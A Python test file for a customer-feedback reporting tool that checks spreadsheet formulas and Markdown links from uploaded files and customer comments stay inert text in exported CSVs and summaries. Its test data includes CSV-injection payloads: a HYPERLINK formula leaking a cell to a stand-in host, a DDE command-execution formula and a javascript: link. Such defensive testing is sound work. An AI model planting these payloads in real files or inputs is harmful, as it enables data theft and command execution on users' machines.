"""What files and customers wrote stays text in the analyst's report and the round's CSV.

A feedback export whose touchpoint names and comments are formulas (tab- and CR-led
ones too, which only files can carry: the model trims what people type), and a customer
whose comment is one, reach no spreadsheet cell as a formula and no Markdown as a link.
"""

from __future__ import annotations

import csv
import datetime as dt
import json

import cmarkgfm

from cxwidgets.export.inert import formula_like
from cxwidgets.resources import SAMPLE_WORKSHOP
from cxwidgets.segment_report import build_report, summary_markdown, validate_parameters
from cxwidgets.store import Editor

FROM_FILES = ['=HYPERLINK("http://x.invalid/?leak="&A2,"click")', "=cmd|' /C calc'!A0",
              "\t=1+1", "\r=2+2", "+1", "-1+2", "@SUM(A1)", "[click me](javascript:alert(6))"]


def _cells(path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_segment_reports_tables_and_summary_keep_file_text_inert(tmp_path):
    folder = tmp_path / "evidence"
    folder.mkdir()
    rows = [[str(k), text, f"{text} said customer {k}", str(1 + k % 5)]
            for k, text in enumerate(FROM_FILES * 4)]
    with (folder / "t.csv").open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["id", "category", "comment", "stars"], *rows])
    (folder / "t.mapping.yaml").write_text(
        "columns: {id: id, touchpoint: category, text: comment, score: stars}\n"
        "score_type: rating\n")
    out = tmp_path / "out"
    result = build_report(validate_parameters(
        segment="all", product="all", evidence_dir=str(folder),
        workshop_file=str(SAMPLE_WORKSHOP), output_dir=str(out)))
    cells = [c for name in ("metrics_touchpoints", "metrics_stages", "quotes")
             for c in _cells(out / f"{name}.csv")]
    risky = [c for c in cells if formula_like(c) and not _number(c)]
    assert not risky
    assert any("'=cmd|' /C calc'!A0" in c for c in cells)  # the words are kept, guarded
    page = cmarkgfm.github_flavored_markdown_to_html(summary_markdown(result))
    assert "<a " not in page and "<img" not in page
    assert json.loads((out / "summary.json").read_text())["rows"] == len(rows)


def test_a_customers_formula_stays_text_in_the_rounds_evidence_csv(store, created,
                                                                  facilitator, tmp_path):
    from cxwidgets.rounds import write_evidence

    stage = facilitator.add("stages", {"name": "Get paid"})
    tp = facilitator.add("touchpoints", {"name": "=1+1", "stage_id": stage})
    rid = facilitator.open_round("Does it happen?", [tp], dt.date(2099, 1, 1))
    code = next(r.code for r in facilitator.state().rounds if r.id == rid)
    Editor.customer(store, created.id, code).answer(
        tp, -2, "yes", comment='=HYPERLINK("http://x.invalid","Fred")')
    data, _ = write_evidence(store, store.state(created.id), code, tmp_path)
    cells = _cells(data)
    assert "'=HYPERLINK(\"http://x.invalid\",\"Fred\")" in cells and "'=1+1" in cells
    assert not [c for c in cells if formula_like(c) and not _number(c)]
